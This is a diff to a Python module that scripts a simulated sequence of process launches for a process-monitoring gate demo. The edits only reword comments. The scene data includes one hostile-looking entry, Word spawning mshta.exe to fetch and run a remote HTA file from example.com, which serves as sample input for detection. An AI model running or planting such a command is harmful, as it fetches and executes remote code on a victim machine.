@@ -1,4 +1,4 @@
-"""The processes that `window.py --simulate` asks about: a small scene, played in a simulated gate."""
+"""The processes that `window.py --simulate` shows: a small scene, played in a simulated gate."""
 
 import contextlib
 import threading
@@ -8,7 +8,7 @@ import _source  # noqa: F401 - comes before procmon
 import procmon
 
 EXPLORER, WORD = r"C:\Windows\explorer.exe", r"C:\Program Files\Microsoft Office\winword.exe"
-SCENE = (  # seconds to wait, image, image of the parent, command line, seconds until the gate lets it go
+SCENE = (  # seconds to wait, image, image of the parent, command line, seconds until the gate releases it
     (0.3, r"C:\Program Files\Git\cmd\git.exe", EXPLORER, "git.exe fetch --all --prune", 60),
     (0.5, r"C:\Windows\System32\mshta.exe", WORD, "mshta.exe http://example.com/invoice.hta", 60),
     (0.5, r"C:\Users\me\Downloads\setup-3.1.exe", EXPLORER, "setup-3.1.exe /quiet", None),
@@ -26,7 +26,7 @@ def play() -> procmon.SimulatedGate:
 
     def run() -> None:
         limits = []
-        with contextlib.suppress(procmon.GateClosed):  # the monitoring was stopped in mid-scene
+        with contextlib.suppress(procmon.GateClosed):  # the monitoring was stopped during the scene
             for pause, image, parent, command_line, limit in SCENE:
                 time.sleep(pause)
                 parent_pid = parents[parent].pid
